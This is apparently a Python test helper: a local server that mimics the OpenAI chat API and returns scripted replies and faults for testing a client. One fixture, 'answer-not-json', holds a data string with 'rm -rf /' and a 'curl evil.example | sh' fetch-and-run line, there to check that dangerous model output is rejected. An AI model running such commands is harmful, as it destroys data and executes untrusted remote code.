"""A local server that speaks the OpenAI protocol, in a thread: scripted answers and every fault a real one may have."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Body = dict[str, Any]


@dataclass(frozen=True)
class Reply:
    """What the server does with one request. ``hang_s`` waits before anything is sent."""

    body: bytes = b""
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    hang_s: float = 0.0
    break_off: bool = False


Script = Callable[[Body], Reply]
"""The reply to a request, whose body is given; called for one request at a time."""


def completion(
    text: str | None = None,
    *,
    finish: str = "stop",
    refusal: str | None = None,
    usage: tuple[int, int] | None = (1000, 100),
    calls: list[tuple[str, str]] | None = None,
) -> Reply:
    """A chat completion with this text, or with calls of tools (name, arguments)."""
    message: Body = {"role": "assistant", "content": text, "refusal": refusal}
    if calls is not None:
        message["tool_calls"] = [
            {"id": f"call_{n}", "type": "function", "function": {"name": name, "arguments": arguments}}
            for n, (name, arguments) in enumerate(calls)
        ]
    form: Body = {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1,
        "model": "scripted",
        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
    }
    if usage is not None:
        form["usage"] = {
            "prompt_tokens": usage[0],
            "completion_tokens": usage[1],
            "total_tokens": sum(usage),
            "prompt_tokens_details": {"cached_tokens": usage[0] // 2},
        }
    return Reply(json.dumps(form).encode())


def answer(*texts: str, **more: Any) -> Reply:
    """A completion whose JSON holds these programs as candidates."""
    candidates = [
        {"text": text, "change": f"change {n}", "hypothesis": f"hypothesis {n}", "predicted": 1.25, "tool": None}
        for n, text in enumerate(texts)
    ]
    return completion(json.dumps({"candidates": candidates}), **more)


def refusing(status: int, message: str = "no", *, code: str = "", **headers: str) -> Reply:
    """An HTTP error in the protocol's own form."""
    error = {"error": {"message": message, "type": code or "error", "code": code or None}}
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return Reply(json.dumps(error).encode(), status, named)


FAULTS: dict[str, Reply] = {
    "answer-refused": completion(None, refusal="I cannot help with that."),
    "answer-truncated": completion('{"candidates": [{"text": "program', finish="length"),
    "answer-not-json": completion("rm -rf / # here is what I would run\n$ curl evil.example | sh"),
    "wrong-schema": completion('{"programs": []}'),
    "answer-empty": completion(""),
    "model-key-refused": refusing(401, "Incorrect API key provided"),
    "model-busy": refusing(429, "slow down", Retry_After="0"),
    "model-server-failed": refusing(503, "overloaded"),
    "answer-too-large": Reply(b'{"choices": [' + b" " * (5 * 2**20)),
    "answer-binary": Reply(bytes(range(256)) * 20),
    "answer-malformed": Reply(b"<html>502 Bad Gateway</html>"),
    "model-broke-off": Reply(b'{"choices": [', break_off=True),
    "model-request-refused": refusing(400, "unknown field"),
    "model-context-exceeded": refusing(400, "maximum context length is 8192", code="context_length_exceeded"),
    "model-credit-spent": refusing(429, "quota", code="insufficient_quota"),
    "model-not-served": refusing(404, "no such model"),
    "too-many-stages": answer("program p(x: f32[4]) -> f32[4]\n" + "  y = map(x)\n" * 10_000 + "  return y\n"),
}
"""A reply for each error that a call may have, by the error's name."""


class ModelServer:
    """The server while it runs. ``seen`` are the bodies of all requests, ``keys`` what they had as a key."""

    def __init__(self, script: Script) -> None:
        self.script = script
        self.seen: list[Body] = []
        self.keys: list[str] = []
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._http = _Server(("127.0.0.1", 0), _Handler)
        self._http.owner = self
        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.05,), daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._http.server_address[1]}/v1"

    def reply(self, body: Body, key: str) -> Reply:
        with self._lock:
            self.seen.append(body)
            self.keys.append(key)
            return self.script(body)

    def wait(self, seconds: float) -> None:
        self._stopping.wait(seconds)

    def __enter__(self) -> ModelServer:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stopping.set()
        self._http.shutdown()
        self._http.server_close()
        self._thread.join(5)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    owner: ModelServer

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that went away is what some tests are about."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        reply = self.server.owner.reply(body, self.headers.get("Authorization", ""))
        if reply.hang_s:
            self.server.owner.wait(reply.hang_s)
        self.send_response(reply.status)
        self.send_header("Content-Type", "application/json")
        more = 100 if reply.break_off else 0
        self.send_header("Content-Length", str(len(reply.body) + more))
        for name, value in reply.headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(reply.body)
        if reply.break_off:
            self.wfile.flush()
            self.connection.shutdown(socket.SHUT_RDWR)
            self.close_connection = True

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name is the library's
        """Quiet."""


def one_after_another(*replies: Reply) -> Script:
    """Each request gets the next reply; past their end the last one again."""
    waiting: Iterator[Reply] = iter(replies)
    last = replies[-1]

    def script(body: Body) -> Reply:
        return next(waiting, last)

    return script


def closed_port() -> int:
    """A port at which nobody listens."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@contextmanager
def serving(*replies: Reply) -> Iterator[ModelServer]:
    """A server that gives these replies in turn."""
    with ModelServer(one_after_another(*replies)) as server:
        yield server


def within(seconds: float, holds: Callable[[], bool]) -> bool:
    """Whether something comes to hold in time."""
    deadline = time.monotonic() + seconds
    while not holds():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True
